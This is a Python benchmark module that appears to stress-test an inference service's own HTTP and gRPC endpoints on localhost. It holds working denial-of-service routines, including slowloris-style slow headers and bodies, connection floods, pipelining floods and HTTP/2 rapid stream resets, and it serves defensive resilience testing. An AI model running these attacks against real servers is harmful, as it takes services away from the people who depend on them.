"""The attackers: each without an API key, in a process of its own, at a bounded rate.

An attack begins connections at its rate, holds up to as many as it may, and begins anew whatever
the service cuts off.
"""

import asyncio
import contextlib
import socket
import struct
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from multiprocessing.connection import Connection

import grpc
import grpc.aio
from grpc_health.v1 import health_pb2, health_pb2_grpc

from benchmarks.attacks.target import Ports
from service.deployments.open_files import allow_connections
from tests.fakes.http2 import DATA, END_STREAM, RST_STREAM, Http2, frame, headers, message

_POST = b"POST /v1/completions HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
_CHUNKED = _POST + b"Transfer-Encoding: chunked\r\n\r\n"
_GET = b"GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n"
_CHECK, _WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
_TRICKLE_S = 1.0


@dataclass
class Strike:
    """What one attack has done so far. num_streams: connections, or gRPC calls."""

    ports: Ports
    num_streams: int = 0
    num_bytes: int = 0
    num_cut: int = 0


Attack = Callable[[Strike], Awaitable[None]]


async def _connect(strike: Strike) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    reader, writer = await asyncio.open_connection("127.0.0.1", strike.ports.http)
    strike.num_streams += 1
    return reader, writer


async def _send(strike: Strike, writer: asyncio.StreamWriter, data: bytes) -> None:
    writer.write(data)
    await writer.drain()
    strike.num_bytes += len(data)


async def trailers(strike: Strike) -> None:
    """One header behind a chunked body, without end, at 1 MiB/s."""
    _, writer = await _connect(strike)
    await _send(strike, writer, _CHUNKED + b"0\r\nX-Late: ")
    while True:
        await _send(strike, writer, b"x" * (64 << 10))
        await asyncio.sleep(1 / 16)


async def tiny_chunks(strike: Strike) -> None:
    """A body of chunks of one byte, with extensions, at 256 KiB/s."""
    _, writer = await _connect(strike)
    await _send(strike, writer, _CHUNKED)
    while True:
        await _send(strike, writer, b"1;e=e\r\nx\r\n" * 2600)
        await asyncio.sleep(1 / 10)


async def pipelines(strike: Strike) -> None:
    """Ten thousand requests in one write, again and again."""
    _, writer = await _connect(strike)
    while True:
        await _send(strike, writer, _GET * 10_000)
        await asyncio.sleep(_TRICKLE_S)


async def slow_heads(strike: Strike) -> None:
    """A byte of a head a second."""
    _, writer = await _connect(strike)
    await _send(strike, writer, _GET[:-2] + b"X-Slow: ")
    while True:
        await asyncio.sleep(_TRICKLE_S)
        await _send(strike, writer, b"x")


async def slow_bodies(strike: Strike) -> None:
    """A byte of a body a second, of 8 MB."""
    _, writer = await _connect(strike)
    await _send(strike, writer, _POST + b"Content-Length: 8000000\r\n\r\n")
    while True:
        await _send(strike, writer, b" ")
        await asyncio.sleep(_TRICKLE_S)


async def unread_answers(strike: Strike) -> None:
    """Requests whose answers are never read, four a second."""
    unread = socket.socket()
    with contextlib.closing(unread):
        unread.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        unread.setblocking(False)
        loop = asyncio.get_running_loop()
        await loop.sock_connect(unread, ("127.0.0.1", strike.ports.http))
        strike.num_streams += 1
        while True:
            await loop.sock_sendall(unread, _GET * 16)
            strike.num_bytes += len(_GET) * 16
            await asyncio.sleep(4 * _TRICKLE_S)


async def flood(strike: Strike) -> None:
    """Connections that say nothing."""
    reader, _ = await _connect(strike)
    while await reader.read(4096):
        pass


async def watches(strike: Strike) -> None:
    """Health watches, sixteen a connection."""
    own = (("grpc.use_local_subchannel_pool", 1),)
    async with grpc.aio.insecure_channel(f"127.0.0.1:{strike.ports.grpc}", options=own) as channel:
        stub = health_pb2_grpc.HealthStub(channel)
        await asyncio.gather(*(_watch(strike, stub) for _ in range(16)))


async def _watch(strike: Strike, stub: health_pb2_grpc.HealthStub) -> None:
    strike.num_streams += 1
    async for _ in stub.Watch(health_pb2.HealthCheckRequest()):
        pass


async def _open_http2(strike: Strike, window: int | None = None) -> Http2:
    strike.num_streams += 1
    return await Http2.connect(strike.ports.grpc, window)


async def _calls(strike: Strike, of_stream: Callable[[int], bytes], window: int | None) -> None:
    """Sixteen calls on one connection, until the service closes it."""
    connection = await _open_http2(strike, window)
    data = b"".join(map(of_stream, range(1, 33, 2)))
    connection.send(data)
    strike.num_bytes += len(data)
    try:
        await connection.closed()
    finally:
        connection.close()
    raise ConnectionResetError


async def grpc_silent(strike: Strike) -> None:
    """Health calls whose messages do not come."""
    await _calls(strike, lambda stream: headers(stream, _CHECK), None)


async def grpc_unread(strike: Strike) -> None:
    """Health watches that leave no room for an answer."""

    def watch(stream: int) -> bytes:
        return headers(stream, _WATCH) + frame(DATA, END_STREAM, stream, message(b""))

    await _calls(strike, watch, 0)


async def grpc_large(strike: Strike) -> None:
    """Health calls with eight megabytes each, all but the end, as far as the service lets them."""
    connection = await _open_http2(strike)
    for stream in range(1, 33, 2):
        connection.send(headers(stream, _CHECK))
        connection.send(frame(DATA, 0, stream, struct.pack(">BI", 0, (8 << 20) - 1)))
    try:
        while not connection.reading.done():
            for stream in range(1, 33, 2):
                strike.num_bytes += connection.send_data(stream, 1 << 14)
            await asyncio.sleep(1 / 20)
    finally:
        connection.close()
    raise ConnectionResetError


async def grpc_resets(strike: Strike) -> None:
    """A thousand watches a second, each reset at once."""
    connection = await _open_http2(strike)
    stream = 1
    try:
        while not connection.reading.done():
            for _ in range(100):
                reset = frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                connection.send(headers(stream, _WATCH) + reset)
                stream += 2
            await connection.writer.drain()
            await asyncio.sleep(1 / 10)
    finally:
        connection.close()
    raise ConnectionResetError


async def grpc_flood(strike: Strike) -> None:
    """Connections that know HTTP/2 and ask for nothing."""
    connection = await _open_http2(strike)
    try:
        await connection.closed()
    finally:
        connection.close()
    raise ConnectionResetError


@dataclass(frozen=True, slots=True)
class Plan:
    """rate_per_s: of new connections. max_held: at once."""

    attack: Attack
    rate_per_s: float
    max_held: int


ATTACKS = {
    "trailers": Plan(trailers, 10, 8),
    "tiny-chunks": Plan(tiny_chunks, 10, 8),
    "pipelines": Plan(pipelines, 10, 64),
    "slow-heads": Plan(slow_heads, 100, 6000),
    "slow-bodies": Plan(slow_bodies, 100, 6000),
    "unread-answers": Plan(unread_answers, 10, 32),
    "flood": Plan(flood, 150, 8000),
    "watches": Plan(watches, 10, 1000),
    "grpc-silent": Plan(grpc_silent, 10, 1000),
    "grpc-unread": Plan(grpc_unread, 10, 1000),
    "grpc-large": Plan(grpc_large, 10, 16),
    "grpc-resets": Plan(grpc_resets, 10, 1),
    "grpc-flood": Plan(grpc_flood, 100, 8000),
}
_CUT = (OSError, asyncio.IncompleteReadError, grpc.aio.AioRpcError)


def run_attack(pipe: Connection, name: str, ports: Ports, duration_s: float) -> None:
    """Say when ready, attack for so long, then send the Strike."""
    allow_connections(1 << 14)
    plan = ATTACKS[name]
    strike = Strike(ports)
    pipe.send("ready")
    asyncio.run(_begin(plan, strike, duration_s))
    pipe.send(strike)


async def _begin(plan: Plan, strike: Strike, duration_s: float) -> None:
    held: set[asyncio.Task[None]] = set()
    loop = asyncio.get_running_loop()
    end_s = loop.time() + duration_s
    while loop.time() < end_s:
        if len(held) < plan.max_held:
            task = asyncio.create_task(_once(plan.attack, strike))
            held.add(task)
            task.add_done_callback(held.discard)
        await asyncio.sleep(1 / plan.rate_per_s)
    for task in held:
        task.cancel()
    await asyncio.gather(*held, return_exceptions=True)


async def _once(attack: Attack, strike: Strike) -> None:
    try:
        await attack(strike)
    except _CUT:
        strike.num_cut += 1
